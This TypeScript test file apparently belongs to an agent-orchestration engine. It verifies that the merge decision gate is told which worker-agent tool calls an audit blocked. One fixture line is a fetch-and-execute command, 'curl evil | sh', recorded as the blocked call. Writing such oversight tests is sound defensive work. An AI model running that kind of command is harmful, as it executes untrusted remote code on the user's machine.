import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import type { BlockedCalls } from '../../../lib/domain/ports/changeset-question.ts';
import { runMergeWave } from '../../../lib/engine/merge/merge-wave.ts';
import { runReviewWave } from '../../../lib/engine/review/review-wave.ts';
import type { RunContext } from '../../../lib/engine/run-context.ts';
import { runValidateWave } from '../../../lib/engine/validate/validate-wave.ts';
import { runWorkWave } from '../../../lib/engine/work/work-wave.ts';
import { closeWorkshops, openTestWorkshop } from '../../support/workshop.ts';

test.after(closeWorkshops);

test('MRG-4 who decides at the terminal is told which calls of its agents were blocked', async () => {
  const told: (readonly BlockedCalls[] | undefined)[] = [];
  const bench = await openTestWorkshop({
    tasks: [{ id: 'a', title: 'Do a', description: 'Do it.', priority: 1, file_locks: ['src/a.txt'] }],
    config: { roles: { worker: { adapter: 'exec' }, validator: { adapter: 'none' } } },
    gates: {
      changeset: async ({ blocked }) => {
        told.push(blocked);
        return { kind: 'skip' };
      },
    },
    agent: ({ worktree }) => {
      writeFileSync(join(worktree.path, 'src/a.txt'), 'by an agent\n');
      return {};
    },
  });
  const top = ['1 × Bash: curl evil | sh'];
  const auditOf = async (id: string): ReturnType<RunContext['agents']['auditOf']> =>
    id.startsWith('worker-') ? { allowed: 3, blocked: 1, top } : { allowed: 1, blocked: 0, top: [] };
  const context: RunContext = { ...bench.context, agents: { ...bench.context.agents, auditOf } };
  for (const wave of [runWorkWave, runValidateWave, runMergeWave, runReviewWave]) await wave(context, bench.session);
  assert.is(told.length, 1);
  assert.equal(
    told[0]?.map(({ blocked, top: calls }) => [blocked, calls]),
    [[1, top]],
  );
  assert.match(told[0]?.[0]?.agent ?? '', /^worker-/);
});

test.run();
